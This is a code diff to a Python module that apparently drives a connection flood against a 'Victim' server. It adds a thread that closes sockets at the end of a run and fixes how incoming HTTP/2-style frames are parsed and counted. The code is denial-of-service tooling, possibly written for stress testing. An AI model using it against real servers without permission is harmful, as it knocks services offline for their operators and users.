@@ -67,10 +67,11 @@ def opened(victim: Victim) -> socket.socket:
 
 
 @contextmanager
-def _reading(connection: socket.socket, outcomes: Outcomes) -> Iterator[None]:
-    """Read and count what the server sends, so that it is not what blocks."""
+def _reading(connection: socket.socket, ended: Event, outcomes: Outcomes) -> Iterator[None]:
+    """Read and count what the server sends, so that it is not what blocks; leave at the end."""
     reader = Thread(target=_read, args=(connection, outcomes), daemon=True)
     reader.start()
+    Thread(target=_leave, args=(connection, ended), daemon=True).start()
     try:
         yield
     finally:
@@ -80,16 +81,30 @@ def _reading(connection: socket.socket, outcomes: Outcomes) -> Iterator[None]:
         reader.join(5)
 
 
+def _leave(connection: socket.socket, ended: Event) -> None:
+    """Close a connection at the end, even while a thread waits until it can write."""
+    while not ended.wait(0.2):
+        if connection.fileno() < 0:
+            return
+    with suppress(OSError):
+        connection.shutdown(socket.SHUT_RDWR)
+
+
 def _read(connection: socket.socket, outcomes: Outcomes) -> None:
     left = b""
     with suppress(OSError):
         connection.settimeout(None)
         while received := connection.recv(65536):
             left += received
-            while len(left) >= 9 and len(left) >= (size := 9 + int.from_bytes(left[:3], "big")):
-                if left[3] in _NAMES:
-                    outcomes.add(_NAMES[left[3]])
-                left = left[size:]
+            at = 0
+            while len(left) >= at + 9:
+                size = 9 + int.from_bytes(left[at : at + 3], "big")
+                if len(left) < at + size:
+                    break
+                if left[at + 3] in _NAMES:
+                    outcomes.add(_NAMES[left[at + 3]])
+                at += size
+            left = left[at:]
 
 
 def _flood(
@@ -103,7 +118,7 @@ def _flood(
             outcomes.add(type(error).__name__)
             time.sleep(0.05)
             continue
-        with _reading(connection, outcomes):
+        with _reading(connection, ended, outcomes):
             number = 0
             try:
                 while not ended.is_set():
